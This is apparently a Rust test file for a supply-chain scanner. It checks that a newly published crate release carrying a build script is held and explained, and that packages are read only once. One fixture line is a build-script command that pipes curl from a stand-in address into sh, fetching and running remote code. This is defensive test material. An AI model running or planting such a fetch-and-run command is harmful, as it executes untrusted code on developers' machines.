//! What a scanner reads reaches the judgement: packages are read where a release is new or held, once, and what was found
//! is told by `check` and `why`.

use fence_testkit::publishing::release;
use insta::assert_snapshot;

use crate::standing::Standing;

const NOW: &str = "--now 2026-08-25T12:00:00Z";

/// A project that locks the newer of two releases of `tidy`, which is ten days old.
fn standing(
    newer: impl FnOnce(fence_testkit::publishing::Release) -> fence_testkit::publishing::Release,
) -> Standing {
    let standing = Standing::before("tidy = \"1\"");
    standing.registry.publish(release("tidy", "1.0.0").at("2026-01-01T12:00:00Z"));
    standing.registry.publish(release("tidy", "1.0.1").at("2026-08-15T12:00:00Z"));
    let changed = newer(release("tidy", "1.0.2").at("2026-08-15T13:00:00Z"));
    standing.registry.publish(changed);
    standing.cargo.run(["generate-lockfile"]);
    standing
}

/// Statements of a build script that fetches a program and runs it.
const FETCHES: &str =
    r#"std::process::Command::new("sh").args(["-c", "curl -s http://192.0.2.7/a | sh"]).status().unwrap();"#;

#[test]
fn a_build_script_that_comes_in_is_held_and_told() {
    let standing = standing(|tidy| tidy.build_script(FETCHES));
    assert_snapshot!(standing.run(&format!("check {NOW}")), @"");
    assert_snapshot!(standing.run(&format!("why tidy {NOW}")), @"");
}

#[test]
fn what_changes_nothing_is_admitted() {
    let standing = standing(|tidy| tidy);
    assert_snapshot!(standing.run(&format!("check {NOW}")), @"");
    assert_snapshot!(standing.run(&format!("why tidy {NOW}")), @"");
}

/// What was read is kept: nothing has to be fetched again, by whomever.
#[test]
fn a_package_is_read_once() {
    let standing = standing(|tidy| tidy.build_script(FETCHES));
    let check = format!("check {NOW}");
    let first = standing.run(&check);
    standing.registry.server().take_requests();
    let second = standing.run(&check);
    assert_eq!((first.code, first.stdout), (second.code, second.stdout));
    let asked = standing.registry.server().take_requests();
    let packages: Vec<_> = asked.iter().filter(|request| request.path.contains("tidy/1")).collect();
    assert!(packages.is_empty(), "{packages:?}");
}

#[test]
fn what_cannot_be_read_waits_and_says_why() {
    let standing = standing(|tidy| tidy);
    standing.run(&format!("update {NOW}"));
    assert_snapshot!(standing.run(&format!("check --offline {NOW}")), @"");
    standing.cargo.write("fence.toml", &format!("scan = \"off\"\n\n{}", crate::standing::POLICY));
    assert_snapshot!(standing.run(&format!("check --offline {NOW}")), @"");
}
